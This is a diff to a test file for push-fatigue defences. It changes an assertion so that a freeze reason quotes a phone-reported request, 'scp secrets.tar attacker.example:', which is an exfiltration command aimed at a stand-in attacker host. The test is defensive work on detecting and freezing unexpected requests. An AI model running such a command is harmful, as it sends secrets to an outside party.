@@ -228,7 +228,7 @@ describe('push-fatigue defences, against the real daemon', () => {
     expect(paired.relay.freezes.at(-1)).toMatchObject({
       kind: 'freeze',
       signer: { role: 'host' },
-      body: { reason: expect.stringContaining('reported on a phone') },
+      body: { reason: 'reported on a phone: “scp secrets.tar attacker.example:” was not expected' },
     });
     expect(auditOf(paired, 'reported', reported.request.requestId)).toEqual([
       expect.objectContaining({ scope: 'fleet', verified: true, acted: true }),
